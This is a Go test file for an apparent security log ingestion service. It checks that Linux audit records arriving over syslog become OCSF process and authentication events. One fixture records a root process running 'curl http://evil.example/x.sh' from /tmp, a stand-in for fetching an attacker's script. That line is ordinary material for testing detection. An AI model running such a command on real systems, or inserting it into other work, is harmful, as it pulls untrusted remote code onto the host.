package ingest

import (
	"io"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/vigilhq/vigil/internal/parse"
)

// TestAuditOverSyslog sends the records of one execve event as separate
// syslog messages (as audispd's syslog plugin does) and a USER_LOGIN with
// no EOE: they come out as one Process Activity event with the command
// line and one Authentication event.
func TestAuditOverSyslog(t *testing.T) {
	b := startBroker(t, t.TempDir(), "")
	svc := startIngest(t, b.Addr, nil)
	c := dialTCP(t, svc.SyslogTCPAddr())
	var msgs []string
	for _, rec := range []string{
		`type=SYSCALL msg=audit(1795687200.120:4411): arch=c000003e syscall=59 success=yes exit=0 ppid=1200 pid=1234 auid=1000 uid=0 ses=3 comm="curl" exe="/usr/bin/curl" key="exec"`,
		`type=EXECVE msg=audit(1795687200.120:4411): argc=2 a0="curl" a1="http://evil.example/x.sh"`,
		`type=CWD msg=audit(1795687200.120:4411): cwd="/tmp"`,
		`type=EOE msg=audit(1795687200.120:4411):`,
	} {
		msgs = append(msgs, octet("<110>1 2026-11-26T10:00:00Z audit-host audispd - - - "+rec))
	}
	if _, err := io.WriteString(c, strings.Join(msgs, "")); err != nil {
		t.Fatal(err)
	}
	u, err := net.Dial("udp", svc.SyslogUDPAddr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer u.Close()
	if _, err := io.WriteString(u, `<110>Nov 26 10:00:01 login-host audispd: type=USER_LOGIN msg=audit(1795687201.000:4420): pid=999 uid=0 auid=1000 ses=4 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=10.0.0.5 terminal=ssh res=failed'`); err != nil {
		t.Fatal(err)
	}
	got := consume(t, b.Addr, []string{"ocsf.process_activity", "ocsf.authentication"}, 30*time.Second, func(rs []gotRecord) bool { return len(rs) >= 2 })
	if len(got) != 2 {
		t.Fatalf("got %v", summarize(got))
	}
	for _, r := range got {
		switch r.Topic {
		case "ocsf.process_activity":
			if r.Key != "audit-host" || field(r.Value, "process.cmd_line") != "curl http://evil.example/x.sh" || field(r.Value, "process.cwd") != "/tmp" {
				t.Errorf("process event: key %s %v", r.Key, r.Value)
			}
			if raw, _ := r.Value["raw_data"].(string); strings.Count(raw, "\n") != 3 {
				t.Errorf("raw_data should hold the 4 syslog messages: %q", raw)
			}
		case "ocsf.authentication":
			if r.Key != "login-host" || field(r.Value, "user.name") != "root" || field(r.Value, "status_id") != 2.0 {
				t.Errorf("login event: key %s %v", r.Key, r.Value)
			}
		}
	}
	if n := svc.Stats().DeadLettered.Load(); n != 0 {
		t.Errorf("%d records dead-lettered", n)
	}
}

func TestAuditGrouper(t *testing.T) {
	g := newAuditGrouper(parse.New(), time.Second)
	now := time.Now()
	o := origin{listener: "test"}
	sys := `type=SYSCALL msg=audit(1795687200.120:1): syscall=59 success=yes pid=1 auid=0 uid=0 comm="sh" exe="/bin/sh"`
	login := `type=USER_LOGIN msg=audit(1795687201.000:2): pid=9 uid=0 msg='op=login acct="a" addr=10.0.0.1 res=success'`
	if rs, _ := g.add(sys, "h", []byte(sys), o, now); len(rs) != 0 {
		t.Fatalf("first record flushed early: %v", rs)
	}
	rs, _ := g.add(login, "h", []byte(login), o, now)
	if len(rs) != 1 || rs[0].Err != nil || rs[0].Event.ClassUID() != 1007 {
		t.Fatalf("a new serial should flush the SYSCALL group: %+v", rs)
	}
	if got, _ := g.expired(now.Add(500*time.Millisecond), false); len(got) != 0 {
		t.Fatalf("young group expired")
	}
	got, _ := g.expired(now.Add(time.Second), false)
	if len(got) != 1 || got[0][0].Event.ClassUID() != 3002 {
		t.Fatalf("old group not expired: %+v", got)
	}
	// Not a record: text of the audit log, kept as a generic event at once.
	rs, _ = g.add("type=BROKEN", "h", []byte("x"), o, now)
	if len(rs) != 1 || rs[0].Err != nil || rs[0].Event.ClassUID() != 0 {
		t.Fatalf("malformed record should become a Base Event at once: %+v", rs)
	}
	g.add(sys, "h2", []byte(sys), o, now)
	if got, _ := g.expired(now, true); len(got) != 1 {
		t.Fatalf("shutdown flush: %d groups", len(got))
	}
}
